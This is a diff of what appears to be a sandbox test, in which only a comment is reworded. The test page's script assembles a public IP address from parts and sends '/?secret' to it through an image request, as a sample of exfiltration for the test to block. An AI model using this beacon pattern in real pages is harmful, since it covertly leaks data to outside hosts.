@@ -236,7 +236,7 @@ test('lets a script contact no host that the page does not name, and send nothin
   host,
 }) => {
   const [code = ''] = host.codes;
-  // Both are public addresses, and neither may be contacted: the script assembles 'new'; 'named' stands in the page.
+  // Both are public addresses, and neither may be contacted: the script assembles 'new'; the page contains 'named'.
   const html = `${drawn(code)}<script>
     const at = (...parts) => 'https://' + parts.join('.');
     new Image().src = at(8, 8, 8, 8) + '/?secret';
